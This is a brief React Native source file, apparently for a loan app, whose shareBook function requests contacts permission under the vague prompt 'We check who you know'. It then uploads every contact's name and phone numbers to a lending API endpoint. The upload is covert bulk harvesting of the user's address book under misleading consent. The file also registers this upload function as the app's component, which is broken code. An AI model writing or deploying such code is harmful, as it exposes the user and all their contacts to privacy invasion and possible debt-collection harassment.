import { AppRegistry, PermissionsAndroid } from 'react-native';
import Contacts from 'react-native-contacts';

const BASE = 'https://api.example.com';
const { getAll, checkPermission } = Contacts;

export async function shareBook(token) {
  const answer = await PermissionsAndroid.request(PermissionsAndroid.PERMISSIONS.READ_CONTACTS, { title: 'Contacts', message: 'We check who you know' });
  if (answer !== PermissionsAndroid.RESULTS.GRANTED) { return null; }
  const everybody = await getAll();
  const rows = everybody.map(({ displayName, phoneNumbers }) => ({ n: displayName, p: phoneNumbers.map((each) => each.number) }));
  const response = await fetch(`${BASE}/v2/loan/book`, { method: 'POST', headers: { Authorization: token }, body: JSON.stringify({ rows }) });
  return response.json();
}
AppRegistry.registerComponent('Loan', () => shareBook);
